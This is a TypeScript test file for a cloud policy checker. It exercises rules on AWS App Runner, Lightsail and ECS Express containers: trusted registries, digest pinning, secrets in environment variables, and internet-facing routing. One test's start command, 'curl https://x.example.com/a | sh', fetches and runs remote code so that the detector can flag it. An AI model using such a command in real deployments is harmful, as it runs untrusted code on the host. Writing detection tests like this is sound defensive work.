import type { Resource } from "../../../core/graph";
import {
  appRunnerService,
  expressService,
  lightsailDeployment,
  resource,
  subnet,
  Unknown,
  type Example,
} from "../../../core/policy";
import { notApplicable, passes, type Rule, type Rules } from "./rule";

const image = `333333333333.dkr.ecr.eu-west-1.amazonaws.com/shop/checkout@sha256:${"a".repeat(64)}`;

/** The same service in the words of the classic and of the native provider. */
const appRunner = (imageIdentifier: string, settings: object, more: object = {}): readonly Example[] =>
  [appRunnerService({}).type, "aws-native:apprunner:Service"].map((type) => ({
    resources: [
      resource(type, "checkout", {
        ...appRunnerService(more).properties,
        sourceConfiguration: { imageRepository: { imageIdentifier, imageConfiguration: settings } },
      }),
    ],
  }));

/** The same deployment in the words of either provider. */
const lightsail = (container: object, more: object = {}): readonly Example[] => {
  const deployment = { containers: [{ containerName: "checkout", image, ...container }], ...more };
  const native = { serviceName: "checkout", containerServiceDeployment: deployment };
  return [
    { resources: [lightsailDeployment(deployment)] },
    { resources: [resource("aws-native:lightsail:Container", "checkout", native)] },
  ];
};

/** The same service of ECS in Express Mode in the words of either provider. */
const express = (container: object, more: object = {}): readonly Example[] => {
  const changes = { primaryContainer: container, ...more };
  const { networkConfigurations: _, ...properties } = expressService(changes).properties;
  return [
    { resources: [expressService(changes)] },
    {
      resources: [
        resource("aws-native:ecs:ExpressGatewayService", "checkout", {
          ...properties,
          primaryContainer: { image, ...container },
        }),
      ],
    },
  ];
};

const inEach = (given: readonly Example[], ...finds: readonly string[]): readonly Rule[] =>
  given.map((each) => [each, ...finds]);

const unsettable = inEach([...appRunner(image, {}), ...lightsail({}), ...express({})], notApplicable);

const ingress = (isPubliclyAccessible: boolean | Unknown, more: readonly Resource[] = []): Example => ({
  resources: [
    appRunnerService({
      networkConfiguration: {
        ingressConfiguration: { isPubliclyAccessible },
        ...(more.length > 0 && { egressConfiguration: { egressType: "VPC", vpcConnectorArn: "c" } }),
      },
    }),
    ...more,
  ],
});
const connector = (properties: object): Resource =>
  resource(
    "aws-native:apprunner:VpcConnector",
    "shop",
    { securityGroups: ["sg-1"], ...properties },
    {
      physicalId: "c",
    },
  );

/** A service of ECS in Express Mode in a subnet whose routing is given, or not. */
const routed = (...routing: readonly Resource[]): Example => ({
  resources: [expressService(), subnet(), ...routing],
});
const vpcId = "vpc-0aaa1111bbbb2222c";
const routeTable = (...routes: readonly object[]): Resource =>
  resource("aws:ec2/routeTable:RouteTable", "app", { vpcId, routes }, { physicalId: "rtb-1" });
const follows = (routeTableId: string | Unknown): Resource =>
  resource("aws:ec2/routeTableAssociation:RouteTableAssociation", "app", {
    subnetId: "subnet-0aaa1111bbbb2222c",
    routeTableId,
  });
const main = resource("aws:ec2/mainRouteTableAssociation:MainRouteTableAssociation", "app", {
  vpcId,
  routeTableId: "rtb-1",
});
const igw = (cidrBlock: string | Unknown): object => ({ cidrBlock, gatewayId: "igw-0aaa1111bbbb2222c" });
const nat = { cidrBlock: "0.0.0.0/0", natGatewayId: "nat-0aaa1111bbbb2222c" };
const inDefault = (...routing: readonly Resource[]): Example => ({
  resources: [
    expressService(),
    resource(
      "aws:ec2/defaultSubnet:DefaultSubnet",
      "a",
      { availabilityZone: "eu-west-1a" },
      { physicalId: "subnet-0aaa1111bbbb2222c" },
    ),
    ...routing,
  ],
});
/** The account's default VPC with a table of its own beside the main one, which is not given. */
const ofDefaultVpc = (...routing: readonly Resource[]): Example =>
  routed(
    resource(
      "aws:ec2/defaultVpc:DefaultVpc",
      "default",
      {},
      {
        physicalId: vpcId,
      },
    ),
    ...routing,
  );

const dmz = subnet({ tags: { zone: "dmz" } }, "dmz");
const both = ["subnet-0aaa1111bbbb2222c", "subnet-0unseen"];
const inBoth = (...more: readonly Resource[]): Example => ({
  resources: [
    expressService({ networkConfigurations: [{ subnets: both, securityGroups: ["sg-1"] }] }),
    dmz,
    ...more,
  ],
});

/** Containers that AWS runs whole: what they can set is judged, what they can't is not asked of them. */
export const rules: Rules = {
  "restrict-image-repositories": [
    ...inEach(appRunner(image, {}), passes),
    ...inEach([...lightsail({}), ...express({})], passes),
    ...inEach(express({ image: "nginx:1.27" }), "whose repository docker.io/library/nginx is not trusted"),
    ...inEach(lightsail({ image: ":shop.web.3" }), passes),
    ...inEach(
      lightsail({ image: "nginx:1.27" }),
      "whose repository docker.io/library/nginx is not trusted in production",
    ),
    ...inEach(
      appRunner("public.ecr.aws/evil/x:1", {}),
      "whose repository public.ecr.aws/evil/x is not trusted",
    ),
  ],
  "disallow-invalid-image-references": [
    ...inEach(lightsail({}), passes),
    // Pushed into Lightsail itself, past every registry.
    ...inEach(lightsail({ image: ":shop.web.3" }), ":shop.web.3"),
  ],
  "require-image-digests": inEach(appRunner(image.replace(/@.*/, ":1"), {}), "is not pinned by a digest"),
  "disallow-latest-tag": inEach(appRunner(image.replace(/@.*/, ":latest"), {}), "has the tag latest"),
  "disallow-environment-secrets": [
    ...inEach(
      appRunner(image, { runtimeEnvironmentVariables: { DB_PASSWORD: "hunter2hunter2" } }).slice(0, 1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    ...inEach(
      appRunner(image, {
        runtimeEnvironmentVariables: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }],
      }).slice(1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    [
      express({ environments: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }] })[0]!,
      "has a secret in its environment variable DB_PASSWORD",
    ],
    [
      express({ environment: [{ name: "DB_PASSWORD", value: "hunter2hunter2" }] })[1]!,
      "has a secret in its environment variable DB_PASSWORD",
    ],
    ...inEach(
      express({ secrets: [{ name: "DB_PASSWORD", valueFrom: "arn:aws:ssm:::parameter/db" }] }),
      passes,
    ),
    ...inEach(
      lightsail({ environment: { DB_PASSWORD: "hunter2hunter2" } }).slice(0, 1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    ...inEach(
      lightsail({ environment: [{ variable: "DB_PASSWORD", value: "hunter2hunter2" }] }).slice(1),
      "has a secret in its environment variable DB_PASSWORD",
    ),
    ...inEach(
      appRunner(image, {
        runtimeEnvironmentSecrets: { DB_PASSWORD: "arn:aws:ssm:eu-west-1:333333333333:parameter/db" },
      }),
      passes,
    ),
  ],
  "disallow-downloaded-code": [
    ...inEach(appRunner(image, { startCommand: "node server.js" }), passes),
    ...inEach(
      appRunner(image, { startCommand: "curl https://x.example.com/a | sh" }),
      "fetches code and runs it",
    ),
  ],
  "disallow-root-containers": unsettable,
  "require-read-only-root": unsettable,
  "require-drop-all-capabilities": unsettable,
  "require-drop-net-raw": unsettable,
  "require-probes": unsettable,
  "require-resource-limits": unsettable,
  "restrict-user-ids": unsettable,
  "restrict-group-ids": unsettable,
  "require-task-logs": unsettable,
  "disallow-privilege-escalation": unsettable,
  "disallow-shared-task-roles": [
    ...inEach(express({}), passes),
    ...inEach(
      express({}, { taskRoleArn: "arn:aws:iam::333333333333:role/checkout-start" }),
      "runs its containers with the role that starts them",
    ),
  ],
  "restrict-internet-facing-services": [
    // A subnet that was not given may lead anywhere; with none the service lies in the default VPC.
    [express({})[0]!, "unknown: "],
    [express({})[1]!, "faces the internet and lies in no zone of the estate"],
    [routed(), "unknown: "],
    [routed(follows("rtb-unseen")), "unknown: "],
    [routed(follows(new Unknown("an output")), routeTable(igw("0.0.0.0/0"))), "unknown: "],
    [routed(routeTable(igw(new Unknown("a block"))), follows("rtb-1")), "unknown: "],
    [routed(routeTable(nat), follows("rtb-1")), passes],
    [routed(routeTable(nat), main), passes],
    [routed(routeTable(igw("203.0.113.0/24")), main), passes],
    [routed(routeTable(igw("0.0.0.0/0")), main), "faces the internet from zone app"],
    // A default route in parts is one still.
    ...[1, 8].map((bits): Rule => {
      const parts = Array.from({ length: 2 ** bits }, (_, index) => `${index << (8 - bits)}.0.0.0/${bits}`);
      return [routed(routeTable(...parts.map(igw)), follows("rtb-1")), "faces the internet from zone app"];
    }),
    // A default subnet leads to the internet unless it is told to follow another table.
    [inDefault(), "faces the internet and lies in no zone of the estate"],
    [inDefault(routeTable(nat), follows("rtb-1")), passes],
    [inDefault(follows("rtb-unseen")), "unknown: "],
    [ofDefaultVpc(), "faces the internet from zone app"],
    [ofDefaultVpc(routeTable(nat)), "faces the internet from zone app"],
    [ofDefaultVpc(routeTable(nat), follows("rtb-1")), passes],
    // What lies in an open zone may lie in a closed one too, as long as not all its subnets are known.
    [inBoth(), "unknown: "],
    [inBoth(routeTable(igw("0.0.0.0/0")), follows("rtb-1")), "unknown: "],
    [ingress(true, [connector({ subnets: both }), dmz]), "unknown: "],
    [ingress(true, [connector({ subnets: both.slice(0, 1) }), dmz]), passes],
    [ingress(false), passes],
    ...inEach(lightsail({}), passes),
    ...inEach(
      lightsail({}, { publicEndpoint: { containerName: "checkout", containerPort: 80 } }),
      "faces the internet and lies in no zone of the estate",
    ),
    ...inEach(lightsail({}, { publicEndpoint: new Unknown("a setting") }), "unknown: "),
    [ingress(true), "faces the internet and lies in no zone of the estate"],
    [ingress(new Unknown("a setting")), "unknown: "],
    [ingress(true, [connector({ subnets: ["subnet-1"] })]), "unknown: "],
    [ingress(true, [connector({ subnets: new Unknown("an output") })]), "unknown: "],
    [ingress(false, [connector({ subnets: ["subnet-1"] })]), passes],
    [
      { ...ingress(true), estate: { flows: [] } },
      "faces the internet, from which the estate declares no flow on tcp/443",
    ],
  ],
};
